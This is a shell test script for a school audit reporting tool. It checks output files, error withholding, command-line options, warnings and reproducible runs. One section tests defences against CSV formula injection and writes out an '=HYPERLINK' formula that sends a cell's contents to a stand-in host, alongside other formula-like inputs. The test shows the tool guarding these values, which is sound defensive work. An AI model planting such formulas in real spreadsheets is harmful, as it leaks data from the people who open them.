#!/bin/sh
# run.t - what a run leaves in OUT: for whom, in which order, and what of schools with errors.
. "$(dirname "$0")/lib.sh"

generate 4 good
cp -r good bad
# T0002: a rating off the scale.
awk -F, -v OFS=, '$1 == "T0002" && !done { $3 = "Mostly"; done = 1 } 1' good/responses.csv >bad/responses.csv
line=$(awk -F, '$1 == "T0002" { print NR; exit }' good/responses.csv)

# head_is FILE COLUMNS: the table begins with a byte order mark and this header
head_is() {
	head -n 1 "$1" | cmp - "$(printf '\357\273\277%s\n' "$2" >expected.head; echo expected.head)"
}

json() {
	python3 -c "import json, sys; d = json.load(open('$1')); sys.exit(0 if ($2) else repr($2))"
}

# Every output of the manifest has the bytes that it says.
manifest_holds() {
	python3 - "$1" <<'PYTHON'
import hashlib, json, os, sys
out = sys.argv[1]
manifest = json.load(open(os.path.join(out, "manifest.json")))
said = {"manifest.json"}
for folder, outputs in [("", manifest["outputs"])] + [(s["school_id"], s["outputs"]) for s in manifest["schools"]]:
    for o in outputs:
        name = os.path.join(folder, o["name"])
        data = open(os.path.join(out, name), "rb").read()
        assert hashlib.sha256(data).hexdigest() == o["sha256"] and len(data) == o["bytes"], name
        said.add(name)
there = {os.path.relpath(os.path.join(d, f), out) for d, _, files in os.walk(out) for f in files
	if not f.startswith(".waymark.")}
assert said == there, (said - there, there - said)
PYTHON
}

rows() {
	python3 -c "import csv; print(len(list(csv.DictReader(open('$1', newline='', encoding='utf-8-sig')))))"
}

# ---- all well ----

ok "a run of good evidence" status 0 run $audit good -o out --date $date
ok "... says where the reports are" says "Reports of 4 of 4 schools are in out."
ok "... and counts no problems" says "0 errors, 0 warnings."
ok "... and nothing on standard error" test ! -s stderr
for id in T0001 T0002 T0003 T0004; do
	for file in report.pdf action-plan.pdf results.json; do
		ok "$id has $file" test -s out/$id/$file
	done
	ok "$id's report is a sound PDF" qpdf --check out/$id/report.pdf
	ok "$id's action plan is a sound PDF" qpdf --check out/$id/action-plan.pdf
	ok "$id's report names the school" sh -c "pdftotext out/$id/report.pdf - | tr '\n' ' ' | grep -qF \"\$(awk -F, '\$1 == \"$id\" { print \$2 }' good/schools.csv)\""
	ok "$id's results begin with their format" json out/$id/results.json 'list(d)[0] == "format" and d["format"] == 2'
	ok "$id's results are JSON" json out/$id/results.json 'd["school"]["id"] == "'$id'" and d["status"] == "made" and len(d["sections"]) == 9'
done
ok "no temporary file is left" sh -c '[ -z "$(find out -name "*.tmp" -o -name ".*" ! -name ".waymark.*" -type f)" ]'
ok "the manifest names every file, with its hash" manifest_holds out
ok "results.csv has the contract's columns" head_is out/results.csv audit,version,period,school_id,school,section,title,judgement,level,indicated,held,cap_reason,met,applicable,unanswered,coverage,status
ok "... and a row a section" test "$(rows out/results.csv)" = 36
ok "... in the order of schools.csv" sh -c "awk -F, 'NR > 1 { print \$4 }' out/results.csv | sort -c"
ok "actions.csv has the contract's columns" head_is out/actions.csv school_id,action_id,item,action,owner,support,start,due,measured,cost,success_measure,status,carried,reviewed_on,note,generated
ok "problems.csv has its header though nothing is in it" head_is out/problems.csv file,line,column,severity,code,school_id,value,message,hint,count,places,schools
ok "no text names OUT, this machine or this folder" not grep -rqIF -e "$out" -e "$(uname -n)" -e "$top" --include='*.csv' --include='*.json' out
ok "no PDF names this folder" not grep -rqaF "$top" out

# ---- the loop from year to year ----

cp -r good next
cp out/actions.csv next/actions.csv
ok "actions.csv is valid evidence for the next term" status 0 check $audit next --date 2027-02-01
ok "... without a warning" test ! -s stderr
ok "a run with it" status 0 run $audit next -o next-out --date $date
ok "... gives back every action" test "$(rows next-out/actions.csv)" = "$(rows out/actions.csv)"
cp -r good third
cp next-out/actions.csv third/actions.csv
ok "a third" status 0 run $audit third -o third-out --date $date
ok "... changes nothing more" cmp next-out/actions.csv third-out/actions.csv
cp -r good year
cp out/actions.csv year/actions.csv
printf '*,%s\n' 'Autumn 1,2027-09-02,2027-10-22' 'Autumn 2,2027-11-01,2027-12-17' 'Spring 1,2028-01-04,2028-02-11' 'Spring 2,2028-02-21,2028-03-31' >>year/calendar.csv
sed -i '/,202[56]-/d' year/calendar.csv
ok "a year later, under another calendar, it is valid too" status 0 check $audit year --date 2027-11-04

# ---- what a spreadsheet would run ----

cp -r good formulas
cat >formulas.py <<'PYTHON'
import csv, sys
texts = ["=1+1", "@SUM(1)", "-A1", "+44 20 7946 0000", "-5", "'=1+1", "''@x", "'quoted'", "a\nb", "=a\n+b", 'say "so", twice', "'\u00e9"]
what, path = sys.argv[1:]
if what == "write":
    with open(path, "w", encoding="utf-8", newline="") as out:
        table = csv.writer(out)
        table.writerow(["school_id", "action_id", "item", "action", "owner", "due", "support", "cost", "success_measure", "note"])
        for i, text in enumerate(texts):
            guarded = "'" + text if text.lstrip("'")[0] in "=+-@" and text != "-5" else text
            table.writerow(["T0001", f"a{i}", "leadership", guarded, guarded, "2027-03-25", *[guarded] * 4])
else:
    rows = [row for row in csv.DictReader(open(path, encoding="utf-8-sig", newline="")) if row["action_id"][1:].isdigit()]
    for row in rows:
        text = texts[int(row["action_id"][1:])]
        guarded = "'" + text if text.lstrip("'")[0] in "=+-@" and text != "-5" else text
        for column in "action", "owner", "support", "cost", "success_measure", "note":
            assert row[column] == guarded, (row["action_id"], column, row[column])
    assert len(rows) == len(texts), rows
PYTHON
python3 formulas.py write formulas/actions.csv
ok "a plan that begins like formulas" status 0 run $audit formulas -o formulas-out --date $date --school T0001
ok "... is written so that no spreadsheet runs it" python3 formulas.py read formulas-out/actions.csv
ok "... and printed as it was meant" sh -c "pdftotext -layout formulas-out/T0001/action-plan.pdf - | grep -q '[^'\'']=1+1'"
cp formulas-out/actions.csv formulas/actions.csv
ok "fed back" status 0 run $audit formulas -o formulas-again --date $date --school T0001
ok "... it is the same, byte by byte" cmp formulas-out/actions.csv formulas-again/actions.csv
printf 'T0001,leadership.vision.emerging,"=HYPERLINK(""http://x/?""&A1,""ok"")",agreed,,,,,\n' >>formulas/responses.csv
ok "a rating that is one" status 1 run $audit formulas -o formulas-out --date $date --school T0001
ok "... stands in problems.csv guarded" grep -q ",CSV012,T0001,\"'=HYPERLINK(" formulas-out/problems.csv
marked() {
	for file in "$@"; do [ "$(head -c 3 "$file" | od -An -tx1)" = " ef bb bf" ] || { echo "$file"; return 1; }; done
}
ok "every table begins with a byte order mark" marked formulas-out/*.csv

# ---- errors ----

ok "a run with a bad row" status 1 run $audit bad -o out --date $date
ok "... names the cell" warns "responses.csv:$line:3: error: rating 'Mostly'"
ok "... with its code" grep -q "^responses.csv:$line:3: error: .* \[CSV012\]\$" stderr
ok "... says how many were made" says "Reports of 3 of 4 schools are in out."
ok "... and withheld" says "Withheld for problems in their rows: 1 school."
ok "the school of the row has no PDF, not even the last run's" sh -c '[ ! -e out/T0002/report.pdf ] && [ ! -e out/T0002/action-plan.pdf ]'
ok "... its results say why" json out/T0002/results.json 'd["status"] == "withheld" and d["problems"][0]["code"] == "CSV012" and "sections" not in d'
ok "... and so does the manifest" json out/manifest.json '[s["reasons"][0]["code"] for s in d["schools"] if s["status"] == "withheld"] == ["CSV012"]'
ok "... and results.csv" sh -c "[ \$(grep -c ',T0002,.*,withheld: CSV012\$' out/results.csv) = 9 ]"
ok "problems.csv has the row, the value and the school" grep -q "^responses.csv,$line,3,error,CSV012,T0002,Mostly," out/problems.csv
ok "the others are as if nothing were wrong" manifest_holds out
ok "... byte by byte" sh -c "'$waymark' run $audit bad -o alone --date $date --school T0001 -q && cmp alone/T0001/report.pdf out/T0001/report.pdf && cmp alone/T0001/results.json out/T0001/results.json"
ok "check finds the same problems" sh -c "cp stderr run.stderr; '$waymark' check $audit bad --date $date 2>stderr; [ \$? -eq 1 ] && cmp stderr run.stderr"
ok "check counts them" sh -c "'$waymark' check $audit bad --date $date 2>/dev/null | grep -q '^4 schools checked: 1 error, 0 warnings.\$'"
ok "check writes nothing" sh -c "touch before after; ls >before; '$waymark' check $audit bad --date $date >/dev/null 2>&1; ls >after; cmp before after"

# ---- options ----

ok "--school takes one" status 0 run $audit bad -o one --date $date --school T0003
ok "... and leaves other schools' problems alone" test ! -s stderr
ok "... and makes no other folder" sh -c '[ "$(echo one/*/)" = one/T0003/ ]'
ok "--school twice takes two, in the order of the table" status 0 run $audit good -o two --date $date --school T0004 --school T0001
ok "... whatever the order asked for" sh -c "awk -F, 'NR > 1 { print \$4 }' two/results.csv | uniq | tr '\n' ' ' | grep -qx 'T0001 T0004 '"
ok "an unknown school beside a known one" status 1 run $audit good -o two --date $date --school T0004 --school T004
ok "... is an error with the nearest" warns "did you mean"
ok "an unknown school alone" status 3 run $audit good -o two --date $date --school nobody
ok "... has its code" warns "[RUN004]"
ok "--edition report makes no action plan" status 0 run $audit good -o edition --date $date --school T0001 --edition report
ok "... but the report" sh -c '[ "$(ls edition/T0001 | tr "\n" " ")" = "report.pdf results.json " ]'
ok "--edition action-plan after it" status 0 run $audit good -o edition --date $date --school T0001 --edition action-plan
ok "... leaves no report of a run that nothing describes" manifest_holds edition
ok "both together" status 0 run $audit good -o edition --date $date --school T0001 --edition action-plan --edition report
ok "... are both there" sh -c '[ "$(ls edition/T0001 | tr "\n" " ")" = "action-plan.pdf report.pdf results.json " ]'
cp -r edition all
ok "another school of the same folder" status 0 run $audit good -o all --date $date --school T0002
ok "... leaves the first one's files" diff -r edition/T0001 all/T0001
ok "... says so" says "Not part of this run, and left as they were: files of 1 school."
ok "... and has tables of its own alone" sh -c "awk -F, 'NR > 1 { print \$4 }' all/results.csv | uniq | grep -qx T0002"
ok "... and a manifest" json all/manifest.json '[s["school_id"] for s in d["schools"]] == ["T0002"]'
ok "all schools" status 0 run $audit good -o all --date $date
ok "... leave nothing that the manifest does not list" manifest_holds all
ok "... and so nothing to say" not says "Not of this run"
ok "--quiet says nothing of a good run" sh -c "[ -z \"\$('$waymark' run $audit good -o quiet --date $date --quiet 2>&1)\" ]"
ok "--quiet shows problems all the same" sh -c "'$waymark' run $audit bad -o quiet --date $date -q 2>&1 >/dev/null | grep -q CSV012"
ok "SOURCE_DATE_EPOCH is the date" sh -c "SOURCE_DATE_EPOCH=1793750400 '$waymark' run $audit good -o epoch -q && cmp epoch/T0001/report.pdf edition/T0001/report.pdf"
ok "--date goes before SOURCE_DATE_EPOCH" sh -c "SOURCE_DATE_EPOCH=0 '$waymark' run $audit good -o epoch -q --date $date && cmp epoch/T0001/report.pdf edition/T0001/report.pdf"
ok "the date counts" sh -c "'$waymark' run $audit good -o later -q --date 2027-01-20 && ! cmp -s later/T0001/report.pdf edition/T0001/report.pdf"

# ---- warnings ----

cp -r good warn
awk -F, -v OFS=, '$1 == "T0003" && $7 ~ /^2026/ && !done { $7 = "2026-12-24"; done = 1 } 1' good/responses.csv >warn/responses.csv
ok "a warning withholds nothing" status 0 run $audit warn -o warned --date $date
ok "... but is shown" warns "[CSV024]"
ok "... and counted" says "0 errors, 1 warning; all are in problems.csv there."
ok "--strict withholds the report" status 1 run $audit warn -o warned --date $date --strict
ok "... of that school alone" sh -c '[ ! -e warned/T0003/report.pdf ] && [ -s warned/T0001/report.pdf ]'
ok "... and says why" grep -q ',T0003,.*,withheld: CSV024$' warned/results.csv
ok "check --strict" status 1 check $audit warn --date $date --strict
ok "check without" status 0 check $audit warn --date $date

# ---- an evidence rule of one half ----

for gone in 'types_from\|min_types\|needs_voice' 'dated_from'; do
	sed "/^\t\t\t\($gone\) = /d" "$(audit_path $audit)" >half.lua
	ok "an audit without $gone is sound" status 0 lint half.lua
	ok "... makes reports" status 0 run half.lua good -o half --date $date --edition report --school T0001
	ok "... that say the other half of the rule" sh -c "pdftotext half/T0001/report.pdf - | tr '\n' ' ' |
		grep -o 'only with a dated source\|different kinds of source' | wc -l | grep -qx 1"
done

# ---- a table that nobody could read to its end ----

cp -r good torn
printf '\377\376torn' >torn/responses.csv
ok "a table that cannot be read" status 1 run $audit torn -o torn-out --date $date
ok "... costs every school its report, since any may have lost rows" sh -c '[ -z "$(find torn-out -mindepth 2 -name "*.pdf")" ]'
ok "... which results.csv says" sh -c "[ \$(grep -c ',withheld: CSV0' torn-out/results.csv) = 36 ]"

finish
